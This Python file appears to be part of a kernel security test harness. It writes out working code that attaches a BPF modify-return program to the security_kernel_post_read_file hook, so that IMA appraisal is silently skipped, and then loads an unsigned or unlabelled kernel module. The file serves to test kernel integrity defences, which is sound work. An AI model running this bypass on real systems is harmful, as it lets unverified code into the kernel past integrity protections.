# SPDX-License-Identifier: GPL-2.0-or-later
"""BPF by root: unsigned code in the kernel, put in the place of a security hook's answer."""

import contextlib
import ctypes
import lzma
import os
import struct
from pathlib import Path

from arena import attack, syscall
from kernel import NR_BPF, finit_module, loaded, module_path, unsigned_module

BTF = Path("/sys/kernel/btf/vmlinux")
BPF_PROG_LOAD, BPF_RAW_TRACEPOINT_OPEN = 5, 17          # the second attaches tracing programs too
BPF_PROG_TYPE_TRACING, BPF_MODIFY_RETURN = 26, 26
BTF_KIND_FUNC = 12
# Bytes that follow each entry, by its kind and its number of members (Documentation/bpf/btf.rst).
BTF_MORE = {1: (4, 0), 3: (12, 0), 4: (0, 12), 5: (0, 12), 6: (0, 8), 13: (0, 8), 14: (4, 0), 15: (0, 12),
            17: (4, 0), 19: (0, 12)}
HOOK = "security_kernel_post_read_file"                 # IMA appraises modules in it
SIZE = 2 * 8                                            # its third argument: of the file that was read


def function_id(name):
    """The number of a kernel function in the kernel's own description of its types."""
    data = BTF.read_bytes()
    header, types, types_len, strings, strings_len = struct.unpack_from("<IIIII", data, 4)
    entries = data[header + types:header + types + types_len]
    names = data[header + strings:header + strings + strings_len]
    at, number = 0, 1
    while at < len(entries):
        place, info, _ = struct.unpack_from("<III", entries, at)
        kind, members = info >> 24 & 31, info & 0xffff
        if kind == BTF_KIND_FUNC and names.startswith(name.encode() + b"\0", place):
            return number
        once, each = BTF_MORE.get(kind, (0, 0))
        at, number = at + 12 + once + each * members, number + 1
    raise LookupError(name)


def bpf(command, request, length):
    """bpf(2): a descriptor."""
    return syscall(NR_BPF, ctypes.c_long(command), ctypes.c_char_p(request.ljust(length, b"\0")),
                   ctypes.c_long(length))


@contextlib.contextmanager
def kernel_reads_unseen():
    """The kernel asks nobody about the files that it reads, for as long as this lasts.

    The program answers in the hook's place, with the size of the file: kernel_read_file takes that
    for the number of bytes read (fs/kernel_read_file.c)."""
    code = struct.pack("<BBhiBBhi", 0x79, 0x10, SIZE, 0, 0x95, 0, 0, 0)     # r0 = *(u64 *)(r1 + SIZE); exit
    instructions, licence = ctypes.create_string_buffer(code, len(code)), ctypes.create_string_buffer(b"GPL")
    request = struct.pack("<IIQQIIQII16sIIIIQIIQIII", BPF_PROG_TYPE_TRACING, len(code) // 8,
                          ctypes.addressof(instructions), ctypes.addressof(licence), 0, 0, 0, 0, 0, b"",
                          0, BPF_MODIFY_RETURN, 0, 0, 0, 0, 0, 0, 0, function_id(HOOK), 0)
    program = bpf(BPF_PROG_LOAD, request, 144)
    try:
        link = bpf(BPF_RAW_TRACEPOINT_OPEN, struct.pack("<QI", 0, program), 16)
        try:
            yield
        finally:
            os.close(link)
    finally:
        os.close(program)


@attack()
def module_past_ima_by_bpf(scene):
    """The distribution's own module from a file without a label, while BPF answers in IMA's place."""
    path = module_path()
    data = lzma.decompress(path.read_bytes()) if path.suffix == ".xz" else path.read_bytes()
    copy = scene.file("dummy.ko", data)
    with kernel_reads_unseen():
        scene.tried(finit_module, copy)
    return loaded(scene)


@attack()
def unsigned_module_past_ima_by_bpf(scene):
    """An unsigned module in the same way."""
    copy = scene.file("dummy.ko", unsigned_module())
    with kernel_reads_unseen():
        scene.tried(finit_module, copy)
    return loaded(scene)
